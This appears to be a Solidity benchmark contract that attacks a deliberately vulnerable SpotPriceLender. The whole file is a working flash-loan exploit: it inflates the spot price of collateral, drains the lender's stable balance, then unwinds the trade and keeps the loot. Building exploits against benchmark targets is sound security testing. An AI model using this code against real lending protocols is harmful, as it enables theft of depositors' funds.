// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {IERC20} from "../../breakers/Transfers.sol";

interface IBenchFlashLender {
    function flashLoan(address receiver, address token, uint256 amount, bytes calldata data) external returns (bool);
}

interface IBenchPair {
    function swap(address tokenIn, uint256 amountIn, uint256 minAmountOut, address to) external returns (uint256);
}

interface ISpotLender {
    function borrowAgainst(uint256 collateralAmount, uint256 amount) external;
    function price() external view returns (uint256);
    function ltvBps() external view returns (uint256);
    function feeBps() external view returns (uint256);
}

/// @title SpotFlashBorrower
/// @notice Benchmark attacker of `SpotPriceLender`, in one transaction: flash-borrow the stable
/// asset, buy collateral with it (the spot price rises), borrow the lender's stable asset against
/// collateral held here, sell the bought collateral, repay the loan. The loot stays here.
contract SpotFlashBorrower {
    address public immutable owner;
    IBenchFlashLender public immutable lender;
    IBenchPair public immutable pair;
    ISpotLender public immutable victim;
    IERC20 public immutable collateral;
    IERC20 public immutable stable;

    error NotOwner(address caller);

    constructor(IBenchFlashLender lender_, IBenchPair pair_, ISpotLender victim_, IERC20 collateral_, IERC20 stable_) {
        owner = msg.sender;
        lender = lender_;
        pair = pair_;
        victim = victim_;
        collateral = collateral_;
        stable = stable_;
    }

    function strike(uint256 flashAmount, uint256 collateralAmount) external {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        lender.flashLoan(address(this), address(stable), flashAmount, abi.encode(collateralAmount));
    }

    function onFlashLoan(address, address, uint256 amount, uint256 fee, bytes calldata data) external returns (bytes32) {
        if (msg.sender != address(lender)) revert NotOwner(msg.sender);
        uint256 collateralAmount = abi.decode(data, (uint256));
        stable.approve(address(pair), amount);
        uint256 bought = pair.swap(address(stable), amount, 0, address(this));
        _borrowAll(collateralAmount);
        collateral.approve(address(pair), bought);
        pair.swap(address(collateral), bought, 0, address(this));
        stable.approve(address(lender), amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }

    /// @dev Borrows the lender dry against no more collateral than it needs (at most `maxCollateral`).
    function _borrowAll(uint256 maxCollateral) private {
        uint256 amount = stable.balanceOf(address(victim));
        uint256 debt = amount + amount * victim.feeBps() / 10_000;
        uint256 collateralAmount = debt * 1e18 * 10_000 / victim.ltvBps() / victim.price() + 1e18;
        if (collateralAmount > maxCollateral) {
            collateralAmount = maxCollateral;
            uint256 limit = collateralAmount * victim.price() / 1e18 * victim.ltvBps() / 10_000;
            amount = limit * 10_000 / (10_000 + victim.feeBps());
        }
        collateral.approve(address(victim), collateralAmount);
        victim.borrowAgainst(collateralAmount, amount);
    }
}
